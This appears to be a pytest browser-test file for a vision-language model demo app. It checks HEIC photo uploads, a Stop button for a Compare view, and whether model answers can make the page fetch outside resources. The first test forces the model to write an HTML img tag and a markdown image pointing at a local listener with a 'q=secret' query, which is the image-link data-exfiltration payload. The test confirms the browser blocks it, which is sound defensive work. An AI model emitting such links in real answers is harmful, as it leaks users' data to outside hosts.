"""In real headless Chromium: an answer that writes remote images makes the page fetch nothing; an iPhone
photo (HEIC) uploads, shows and answers; Stop shows while Compare runs and ends it."""

import http.server
import threading

import pytest

from tests.appclient import free_port
from tests.test_browser import CHROMIUM, ask, open_page, upload_and_ask, wait_until_textbox_is_back  # noqa: F401

pytestmark = pytest.mark.browser


class Listener:
    """An HTTP server on loopback that only counts what reaches it (the 'outside' an answer points at)."""

    def __init__(self):
        self.requests = []
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                listener.requests.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.port = free_port()
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()


def writes(vlm, text: str):
    """Make the model write `text` (its tokens, in a loop) whatever it is asked: a per-instance hook on
    lm_head favouring the next token of `text` at each step."""
    target = vlm.tokenizer(text, add_special_tokens=False)["input_ids"]
    step = [0]

    def hook(module, args, output):
        output = output.clone()
        output[..., target[step[0] % len(target)]] += 1e4
        step[0] += 1
        return output
    return vlm.model.lm_head.register_forward_hook(hook), len(target)


@pytest.fixture(scope="module")
def served(tiny_llava):
    import app
    demo = app.build_demo(tiny_llava, max_new_tokens=160, session_options={"stop_at_eos": False})
    demo.queue(default_concurrency_limit=1)
    _, url, _ = demo.launch(prevent_thread_lock=True, server_name="127.0.0.1", **app.launch_options())
    yield url
    demo.close()


def test_an_answer_cannot_make_the_page_fetch_anything(served, tiny_llava):
    outside = Listener()
    leak = (f'<img src="http://127.0.0.1:{outside.port}/html?q=secret"> '
            f'![x](http://127.0.0.1:{outside.port}/markdown?q=secret) ')
    hook, n = writes(tiny_llava, leak)
    try:
        with open_page(served, 1500, 1000) as page:
            upload_and_ask(page, "Describe it.")
            wait_until_textbox_is_back(page)
            page.wait_for_function("(port) => [...document.querySelectorAll('#chatbot img')].some("
                                   "i => i.src.includes(':' + port + '/'))", arg=outside.port, timeout=60_000)
            page.get_by_role("tab", name="Compare").click()
            page.locator("#compare").click()  # Compare's panels render the same answer as markdown
            page.wait_for_function("(port) => [...document.querySelectorAll('#compare-answers img')].some("
                                   "i => i.src.includes(':' + port + '/'))", arg=outside.port, timeout=90_000)
            page.wait_for_timeout(1500)
            policy = page.evaluate("() => fetch(location.href).then(r => r.headers.get('content-security-policy'))")
    finally:
        hook.remove()
        outside.close()
    assert outside.requests == []  # the markup is on the page, and the browser fetched none of it
    assert "img-src 'self'" in policy


def test_an_iphone_photo_uploads_shows_and_answers(served, tmp_path):
    from tests.test_colours import colour_blocks, iphone_heic
    path = tmp_path / "IMG_0001.HEIC"
    path.write_bytes(iphone_heic(colour_blocks(side=60), orientation=6))
    with open_page(served, 1500, 1000) as page:
        page.set_input_files("#textbox input[type=file]", str(path))
        page.wait_for_timeout(1000)
        assert "Invalid file type" not in page.locator("body").inner_text()
        ask(page, "What is this?")
        page.wait_for_function("() => document.querySelector('#stats').innerText.includes('time to first token')",
                               timeout=60_000)
        wait_until_textbox_is_back(page)
        shown = page.locator("#chatbot img").first  # the photo, as a JPEG the browser can show
        page.wait_for_function("() => { const i = document.querySelector('#chatbot img'); "
                               "return i && i.complete && i.naturalWidth > 0; }", timeout=30_000)
        assert shown.evaluate("i => [i.naturalWidth, i.naturalHeight]") == [60, 300]  # upright: portrait
        assert "64 of 576" in page.locator("#stats").inner_text()


def test_stop_shows_for_compare_and_ends_it(served):
    with open_page(served, 1500, 1000) as page:
        upload_and_ask(page, "What is it?")
        page.wait_for_function("() => document.querySelector('#stats').innerText.includes('time to first token')",
                               timeout=60_000)
        wait_until_textbox_is_back(page)
        page.wait_for_selector("#settings.open", timeout=10_000)
        page.get_by_text("Generation", exact=True).click()  # (a closed accordion)
        page.locator("#max_new_tokens input[type=number]").fill("2048")
        page.locator("#max_new_tokens input[type=number]").press("Enter")
        page.wait_for_timeout(800)
        page.get_by_role("tab", name="Compare").click()
        for label in ("VisionZip", "DivPrune", "Random", "Full"):
            page.locator("#compare-methods label", has_text=label).click()
        page.locator("#compare").click()
        page.wait_for_selector("#compare-stop", state="visible", timeout=15_000)
        page.wait_for_function("() => document.querySelector('#compare-table').innerText.includes('answering, 1 of 4')",
                               timeout=60_000)
        page.locator("#compare-stop").click()
        page.wait_for_function("() => document.querySelector('#compare-table').innerText.includes('Stopped: 1 of 4')",
                               timeout=30_000)
        page.wait_for_selector("#compare-stop", state="hidden", timeout=15_000)
        wait_until_textbox_is_back(page)
